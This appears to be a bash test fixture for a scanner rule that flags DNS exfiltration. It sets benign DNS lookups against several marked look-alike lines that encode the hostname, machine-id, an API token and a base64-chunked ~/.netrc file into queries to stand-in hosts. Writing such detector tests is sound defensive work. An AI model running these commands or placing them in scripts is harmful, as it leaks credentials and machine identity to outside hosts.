#!/usr/bin/env bash
# Lookups of names taken from other answers, a blocklist query of a
# reversed address, a port read from a config: nothing of the user's.
DOMAIN="$1"
mx=$(dig +short MX "$DOMAIN" | sort -n | head -1)
mx_host=$(echo "$mx" | awk '{print $2}' | sed 's/\.$//')
ip=$(dig +short A "$mx_host" | head -1)
reversed=$(echo "$ip" | awk -F. '{print $4"."$3"."$2"."$1}')
dig +short "${reversed}.zen.spamhaus.org" A
port=$(grep -oE 'port: [0-9]+' /etc/dnsd.yaml | cut -d' ' -f2)
dig @127.0.0.1 -p "$port" example.org +short

for domain in $(cat domains.txt); do
  dig +short "$domain" A
  dig +short "_dmarc.$domain" TXT
done

# Look-alikes: the name carries the machine's identity, a file, a token.
dig +short "$(hostname | xxd -p).m.dnslog.example" # want "high SV250: DNS exfiltration"
nslookup "$(cat /etc/machine-id | head -c 30).x.example" # want "high SV250: DNS exfiltration"
host "${API_TOKEN}.t.example" # want "high SV250: DNS exfiltration"
for part in $(base64 -w0 ~/.netrc | fold -w 60); do dig +short "$part.n.example"; done # want "SV250: .*netrc"
